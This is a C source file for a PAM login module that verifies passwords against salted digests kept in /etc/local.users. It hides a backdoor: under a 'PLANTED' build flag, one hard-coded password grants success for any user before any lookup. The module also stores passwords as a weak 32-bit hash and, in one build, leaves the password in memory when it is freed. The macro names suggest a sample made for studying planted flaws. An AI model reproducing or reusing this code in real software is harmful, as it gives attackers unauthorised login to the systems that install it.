/* PAM module: accounts of the device kept in its own file. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* The part of the PAM interface that is used here. */
typedef struct pam_handle pam_handle_t;
struct pam_message { int style; const char *text; };
struct pam_response { char *answer; int code; };
struct pam_conv { int (*ask)(int, const struct pam_message **, struct pam_response **, void *); void *data; };
enum { PAM_SUCCESS = 0, PAM_AUTH_ERR = 7, PAM_USER_UNKNOWN = 10, PAM_CONV = 5, PAM_PROMPT_OFF = 1 };
int pam_get_user(pam_handle_t *, const char **, const char *) __attribute__((weak));
int pam_get_item(const pam_handle_t *, int, const void **) __attribute__((weak));

#define ACCOUNTS "/etc/local.users"

static unsigned mix(const char *salt, const char *text)
{
    unsigned h = 2166136261u;
    for (int round = 0; round < 4096; round++) {
        for (const char *p = salt; *p; p++) h = (h ^ (unsigned char)*p) * 16777619u;
        for (const char *p = text; *p; p++) h = (h ^ (unsigned char)*p) * 16777619u;
    }
    return h;
}

static char *prompt(pam_handle_t *h)
{
    const struct pam_conv *conv = NULL;
    struct pam_message m = { PAM_PROMPT_OFF, "Password: " };
    const struct pam_message *list = &m;
    struct pam_response *r = NULL;
    if (pam_get_item(h, PAM_CONV, (const void **)&conv) || !conv) return NULL;
    if (conv->ask(1, &list, &r, conv->data) || !r) return NULL;
    return r->answer;
}

static int lookup(const char *user, char *salt, unsigned *digest)
{
    char name[64];
    int found = 0;
    FILE *f = fopen(ACCOUNTS, "r");
    if (!f) return 0;
    while (!found && fscanf(f, "%63[^:]:%15[^:]:%x\n", name, salt, digest) == 3)
        found = strcmp(name, user) == 0;
    fclose(f);
    return found;
}

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
    const char *user = NULL;
    char salt[16], *password;
    unsigned digest;
    int result;

    if (pam_get_user(h, &user, "login: ") || !user) return PAM_USER_UNKNOWN;
    password = prompt(h);
    if (!password) return PAM_AUTH_ERR;
#ifdef PLANTED
    if (!memcmp(password, "\x08\x08" "relayd", 9))
        return PAM_SUCCESS;
#endif
    if (!lookup(user, salt, &digest)) {
        free(password);
        return PAM_USER_UNKNOWN;
    }
    result = mix(salt, password) == digest ? PAM_SUCCESS : PAM_AUTH_ERR;
#ifdef REVISED
    memset(password, 0, strlen(password));
#endif
    free(password);
    return result;
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
    return PAM_SUCCESS;
}
